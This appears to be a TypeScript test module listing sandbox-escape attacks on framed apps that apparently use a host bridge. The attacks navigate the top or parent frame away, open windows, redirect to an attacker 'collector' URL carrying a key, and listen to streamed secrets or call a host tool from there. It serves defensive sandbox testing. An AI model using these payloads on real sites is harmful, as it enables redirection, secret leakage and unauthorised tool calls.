import { ranTool, script, wentOut, type Attack, type Lab } from '../attack.ts';

const bare = async (lab: Lab): Promise<unknown> => lab.bare();
const bridge = (lab: Lab): unknown => lab.bridge();

/** An address that answers with nothing, so that whoever is sent there arrives nowhere and stays. */
const away = `const away = out('navigated', 'a.none');`;

/** A way out of the frame. The harm is the navigation that the attacker's server sees. */
const leave = (name: string, code: string, more: Partial<Attack> = {}): Attack => ({
  name,
  app: () => script(away + code),
  control: bare,
  guarded: bridge,
  harm: wentOut,
  ...more,
});

/**
 * A way to send the host page elsewhere: to another place on itself, which the same rules govern and which leaves the
 * page there to tell. It stands at `/?`, so that a form that adds nothing arrives there too.
 */
const up = (name: string, code: string): Attack => ({
  name,
  app: () => script(`const away = at.host + '/?#' + at.key; ${code}`),
  control: bare,
  guarded: bridge,
  harm: ({ place }) => location.hash === `#${place.key}`,
  alone: true,
});

const click = (target: string): string => `
  const link = document.createElement('a');
  link.href = away; link.target = '${target}'; document.body.append(link); link.click();`;
const submit = (target: string): string => `
  const form = document.createElement('form');
  form.action = away; form.target = '${target}'; document.body.append(form); form.submit();`;
const noPopups = { webkit: 'the engine opens no window without a click' };

/** A view that leaves for the attacker's page, whose origin it may frame, in mid-stream. */
const desert = (name: string, code: string, harm: Attack['harm'], more: Partial<Attack> = {}): Attack => ({
  name,
  app: (place) =>
    script(`
    await handshake();
    await wait(50);
    const listener = at.collector + '/listener?key=${place.key}';
    launched();
    ${code}`),
  meta: ({ collector }) => ({ csp: { frameDomains: [collector], baseUriDomains: [collector] } }),
  control: (lab) => lab.bridge({ call: streamOf(lab), sandbox: { url: `${lab.place.sandbox}/naive` } }),
  guarded: (lab) => lab.bridge({ call: streamOf(lab) }),
  harm,
  ...more,
});

const streamOf = (lab: Lab): ReturnType<Lab['stream']> =>
  lab.stream({ kind: 'secret', secret: 'later', ms: 300, count: 25 });

const heard: Attack['harm'] = async (lab) => (await lab.hits()).some(({ via }) => via === 'heard');

const WAYS: Record<string, string> = {
  'location.assign': 'location.assign(listener);',
  'location.replace': 'location.replace(listener);',
  'a link': `const link = document.createElement('a'); link.href = listener; document.body.append(link); link.click();`,
  'open(…, _self)': `open(listener, '_self');`,
  'a refresh in its markup': `document.head.insertAdjacentHTML('beforeend',
    '<meta http-equiv="refresh" content="0;url=' + listener + '">');`,
};

export const navigate: readonly Attack[] = [
  up('navigate the top by location', 'top.location = away;'),
  up('navigate the top by location.replace', 'top.location.replace(away);'),
  up('navigate the top by a link', click('_top')),
  up('navigate the top by a form', submit('_top')),
  up('navigate the top by open', `open(away, '_top');`),
  up('navigate the frame above', 'parent.location = away;'),
  up('navigate the frame above by a link', click('_parent')),
  leave('open a window', 'const opened = open(away); setTimeout(() => opened?.close(), 300);', {
    cannot: noPopups,
  }),
  leave('open a window by a link', click('_blank'), { cannot: noPopups }),
  leave('open a window by a form', submit('_blank'), { cannot: noPopups }),
  ...Object.entries(WAYS).map(([way, code]) =>
    desert(`listen from another page after leaving by ${way}`, code, heard),
  ),
  desert('call a tool from another page after leaving', WAYS['location.assign']!, ranTool('tally'), {
    control: async (lab) => lab.naive(),
  }),
];
